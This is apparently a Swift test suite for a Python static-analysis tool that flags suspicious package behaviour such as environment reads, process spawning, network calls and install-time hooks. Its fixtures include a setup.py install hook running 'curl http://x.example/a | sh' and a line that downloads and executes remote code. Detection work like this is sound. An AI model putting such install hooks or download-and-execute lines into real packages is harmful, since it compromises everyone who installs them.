import Analysis
import LockgateCore
import Testing

/// Functions, methods, local calls, imports and setup.py install commands.
@Suite struct PythonStructureTests {
    @Test func functionBodiesAreSeparateAndCallsAreInOrder() throws {
        let analysis = PythonTestSupport.analyse(
            """
            import os

            def collect():
                return os.getenv('HOME')

            async def send(data):
                os.system('make')

            def main():
                send(collect())

            if __name__ == '__main__':
                main()
            """)
        #expect(PythonTestSupport.structure(analysis.topLevel) == ["import:os@1", "call:main"])
        #expect(PythonTestSupport.structure(analysis.functions["main"] ?? []) == ["call:collect", "call:send"])
        let collect = try #require(analysis.functions["collect"])
        #expect(collect.compactMap(\.behaviour).map(\.kind) == [.readEnvironmentVariable])
        let send = try #require(analysis.functions["send"])
        #expect(send.compactMap(\.behaviour).map(\.kind) == [.spawnProcess])
        #expect(!analysis.topLevel.contains { $0.behaviour?.kind == .spawnProcess })
    }

    @Test func methodsAreQualifiedAndSelfCallsResolve() {
        let analysis = PythonTestSupport.analyse(
            """
            class Agent:
                def __init__(self):
                    self.url = 'https://example.com'

                def start(self):
                    self.beacon()

                @staticmethod
                def helper(x):
                    return x

                def beacon(self):
                    import requests
                    requests.post(self.url)

            Agent().start()
            """)
        #expect(Set(analysis.functions.keys) == ["Agent.__init__", "Agent.start", "Agent.helper", "Agent.beacon"])
        #expect(PythonTestSupport.structure(analysis.topLevel) == ["call:Agent.__init__", "call:Agent.start"])
        #expect(PythonTestSupport.structure(analysis.functions["Agent.start"] ?? []) == ["call:Agent.beacon"])
        #expect(analysis.functions["Agent.beacon"]?.contains { $0.behaviour?.kind == .useNetwork } == true)
    }

    @Test func nestedFunctionsAndOneLineBodies() {
        let analysis = PythonTestSupport.analyse(
            """
            import os
            def outer():
                def inner(): os.system('id')
                inner()
            def later(): return 1
            outer()
            """)
        #expect(analysis.functions["outer.inner"]?.contains { $0.behaviour?.kind == .spawnProcess } == true)
        #expect(PythonTestSupport.structure(analysis.functions["outer"] ?? []) == ["call:outer.inner"])
        #expect(analysis.functions["later"] == [])
        #expect(PythonTestSupport.structure(analysis.topLevel) == ["import:os@1", "call:outer"])
    }

    @Test func callsOfFunctionsDefinedLaterResolve() {
        let analysis = PythonTestSupport.analyse("def a():\n    b()\ndef b():\n    pass\na()\nunknown()\n")
        #expect(PythonTestSupport.structure(analysis.functions["a"] ?? []) == ["call:b"])
        #expect(PythonTestSupport.structure(analysis.topLevel) == ["call:a"])
    }

    @Test func callsOfImportedMembersAreEventsForTheSequenceBuilder() {
        let analysis = PythonTestSupport.analyse(
            """
            from ._core import Engine, start
            from . import helpers
            import pkg.util
            import os
            engine = Engine()
            engine.run()
            start()
            helpers.go()
            pkg.util.Client.connect()
            os.getcwd()
            len('x')
            """)
        let calls = PythonTestSupport.structure(analysis.topLevel).filter { $0.hasPrefix("call") }
        #expect(
            calls == [
                "call-imported:._core.Engine", "call-imported:._core.Engine.run", "call-imported:._core.start",
                "call-imported:.helpers.go", "call-imported:pkg.util.Client.connect",
            ])
    }

    @Test func functionsGivenToThreadsAndExitHandlersAreCalledThere() {
        let analysis = PythonTestSupport.analyse(
            """
            import threading, atexit, multiprocessing
            from ._payload import steal
            def grab():
                pass
            def report():
                pass
            class Worker:
                def __init__(self):
                    threading.Thread(target=self.loop, daemon=True).start()
                def loop(self):
                    pass
            threading.Thread(target=grab).start()
            atexit.register(report)
            multiprocessing.Process(None, steal).start()
            threading.Timer(5, Worker).start()
            threading.Thread(target=print).start()
            """)
        let calls = PythonTestSupport.structure(analysis.topLevel).filter { $0.hasPrefix("call") }
        #expect(
            calls == ["call:grab", "call:report", "call-imported:._payload.steal", "call:Worker.__init__"])
        #expect(PythonTestSupport.structure(analysis.functions["Worker.__init__"] ?? []) == ["call:Worker.loop"])
    }

    @Test func importsAreEventsWithSpecsAsWritten() {
        let analysis = PythonTestSupport.analyse(
            """
            from . import utils
            from .sub import thing
            import pkg.sub
            from .. import up
            import os.path as p
            """)
        #expect(
            PythonTestSupport.structure(analysis.topLevel) == [
                "import:.@1", "import:.utils@1", "import:.sub@2", "import:.sub.thing@2", "import:pkg.sub@3",
                "import:..@4", "import:..up@4", "import:os.path@5",
            ])
        #expect(PythonTestSupport.kinds(analysis) == [.importOSModule])
    }

    @Test func dynamicImportsAreEvents() {
        let analysis = PythonTestSupport.analyse("import importlib\nm = importlib.import_module('.plugins', 'pkg')\n")
        #expect(PythonTestSupport.structure(analysis.topLevel) == ["import:importlib@1", "import:.plugins@2"])
    }

    @Test func setupCommandClassRunsAtTheSetupCall() {
        let source = """
            import os
            from setuptools import setup
            from setuptools.command.install import install

            class PostInstall(install):
                def run(self):
                    os.system('curl http://x.example/a | sh')
                    install.run(self)

            setup(name='x', version='1', cmdclass={'install': PostInstall})
            """
        let analysis = PythonTestSupport.analyse(source, path: "x-1/setup.py", context: .install)
        let events = PythonTestSupport.structure(analysis.topLevel)
        #expect(events.last == "call:PostInstall.run")
        #expect(analysis.functions["PostInstall.run"]?.contains { $0.behaviour?.kind == .spawnProcess } == true)
        let other = PythonTestSupport.analyse(source, path: "x-1/other.py")
        #expect(!PythonTestSupport.structure(other.topLevel).contains("call:PostInstall.run"))
    }

    @Test func setupCommandClassThroughVariablesAndSubclasses() {
        let analysis = PythonTestSupport.analyse(
            """
            from setuptools import setup
            from setuptools.command.develop import develop as _develop
            from setuptools.command.egg_info import egg_info

            class Dev(_develop):
                def run(self):
                    pass

            class Egg(egg_info):
                def run(self):
                    pass

            commands = dict(develop=Dev)
            setup(name='x', cmdclass=commands)
            """, path: "setup.py")
        let events = PythonTestSupport.structure(analysis.topLevel).filter { $0.hasPrefix("call:") }
        #expect(events == ["call:Dev.run", "call:Egg.run"])
    }

    @Test func behavioursAreInStatementOrderInnerCallsFirst() {
        let analysis = PythonTestSupport.analyse("import os, requests\nexec(requests.get(os.getenv('U')).text)\n")
        let kinds = analysis.topLevel.compactMap(\.behaviour).map(\.kind)
        #expect(
            kinds == [
                .importOSModule, .importNetworkModule, .readEnvironmentVariable, .useNetwork, .evalCode,
                .downloadExecute,
            ])
    }
}
